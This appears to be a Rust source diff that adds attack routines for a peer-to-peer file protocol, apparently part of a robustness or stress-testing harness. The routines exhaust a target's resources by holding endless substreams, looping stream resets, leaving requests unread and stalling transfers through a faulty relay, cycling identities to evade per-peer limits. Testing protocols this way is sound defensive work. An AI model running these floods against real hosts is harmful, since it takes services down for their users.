@@ -1,0 +1,154 @@
+//! Peers that mean no good: hosts that the target has shaken hands with, or is about to.
+
+use std::time::Duration;
+
+use sss::{Host, Identity, Stream};
+use sss_files::{Greeting, PROTOCOL, RelPath, Request, SERVICE};
+
+use crate::error::AttackError;
+use crate::relay::{Fault, Relay};
+use crate::tally::Tally;
+use crate::victim::Victim;
+
+/// Streams that one peer has open at most, so that this program's own memory is bounded.
+const STREAMS: usize = 100_000;
+/// Time for which a handshake that fails is waited for.
+const PATIENCE: Duration = Duration::from_secs(1);
+/// Streams that ask for a file at once.
+const REQUESTS: usize = 1000;
+
+async fn host(victim: &Victim, tally: &Tally) -> Result<Host, AttackError> {
+    tally.peer();
+    let host = Host::builder()
+        .identity(Identity::generate())
+        .bind(victim.target.source(0, 1));
+    Ok(host.build().await?)
+}
+
+/// A session of the file protocol; none if the target does not take one.
+async fn session(host: &Host, victim: &Victim) -> Option<Stream> {
+    let connecting = host.connect(victim.target.eid, SERVICE, PROTOCOL);
+    let mut stream = connecting.hint(victim.target.address).await.ok()?;
+    stream.write_all(&Greeting::default().encode()).await.ok()?;
+    Some(stream)
+}
+
+fn request(victim: &Victim) -> Result<Vec<u8>, AttackError> {
+    let path = RelPath::parse(victim.path.as_bytes())?;
+    Ok(Request::Fetch { path, have: None }.encode())
+}
+
+/// A stream on which a file is asked for.
+async fn ask(session: &Stream, request: &[u8], tally: &Tally) -> Option<Stream> {
+    let mut stream = session.open_substream().ok()?;
+    tally.stream();
+    stream.write_all(request).await.ok()?;
+    stream.finish().ok()?;
+    Some(stream)
+}
+
+/// Opens streams without end, and keeps them; with another identity when there is no more room for this one.
+pub(crate) async fn open(victim: &Victim, tally: &Tally) -> Result<(), AttackError> {
+    let mut kept = Vec::new();
+    loop {
+        let host = host(victim, tally).await?;
+        let Some(session) = session(&host, victim).await else {
+            continue;
+        };
+        let mut streams = Vec::new();
+        while streams.len() + kept.len() < STREAMS {
+            let Ok(mut stream) = session.open_substream() else {
+                break;
+            };
+            tally.stream();
+            let written = tokio::time::timeout(PATIENCE, stream.write_all(b"\x02")).await;
+            streams.push((host.clone(), stream));
+            if !matches!(written, Ok(Ok(()))) {
+                break;
+            }
+        }
+        kept.append(&mut streams);
+        if kept.len() >= STREAMS {
+            std::future::pending::<()>().await;
+        }
+    }
+}
+
+/// Opens streams and resets them, without end.
+pub(crate) async fn reset(victim: &Victim, tally: &Tally) -> Result<(), AttackError> {
+    let request = request(victim)?;
+    loop {
+        let host = host(victim, tally).await?;
+        let Some(session) = session(&host, victim).await else {
+            continue;
+        };
+        while let Ok(mut stream) = session.open_substream() {
+            tally.stream();
+            if !matches!(
+                tokio::time::timeout(PATIENCE, stream.write_all(&request)).await,
+                Ok(Ok(()))
+            ) {
+                break;
+            }
+            stream.reset_tree(7);
+            tokio::task::yield_now().await;
+        }
+    }
+}
+
+/// Asks for a file on very many streams, and reads none of them.
+pub(crate) async fn unread(victim: &Victim, tally: &Tally) -> Result<(), AttackError> {
+    let request = request(victim)?;
+    let mut kept = Vec::new();
+    loop {
+        let host = host(victim, tally).await?;
+        let Some(session) = session(&host, victim).await else {
+            continue;
+        };
+        for _ in 0..REQUESTS {
+            match tokio::time::timeout(PATIENCE, ask(&session, &request, tally)).await {
+                Ok(Some(stream)) => kept.push(stream),
+                _ => break,
+            }
+        }
+        if kept.len() >= STREAMS {
+            std::future::pending::<()>().await;
+        }
+    }
+}
+
+/// Asks for a file through a relay, again and again.
+pub(crate) async fn fetch_by_relay(victim: &Victim, fault: Fault, tally: &Tally) -> Result<(), AttackError> {
+    loop {
+        fetch_once(victim, fault, tally).await?;
+    }
+}
+
+/// Begins what a fault of the relay lets nobody finish, and then again with another identity.
+pub(crate) async fn one_after_another(victim: &Victim, fault: Fault, tally: &Tally) -> Result<(), AttackError> {
+    loop {
+        let attempt = tokio::time::timeout(PATIENCE, fetch_once(victim, fault, tally));
+        attempt.await.unwrap_or(Ok(()))?;
+    }
+}
+
+/// Asks for a file through a relay until one of both is at its end.
+async fn fetch_once(victim: &Victim, fault: Fault, tally: &Tally) -> Result<(), AttackError> {
+    let request = request(victim)?;
+    let relay = Relay::new(fault, victim.target, tally).await?;
+    let mut behind = victim.clone();
+    behind.target.address = relay.address()?;
+    let host = host(victim, tally).await?;
+    let fetching = async {
+        let session = session(&host, &behind).await?;
+        while let Some(mut stream) = ask(&session, &request, tally).await {
+            while let Ok(Some(_)) = stream.read_chunk(1 << 16).await {}
+        }
+        Some(())
+    };
+    tokio::select! {
+        end = relay.run() => end?,
+        _ = fetching => {}
+    }
+    Ok(())
+}
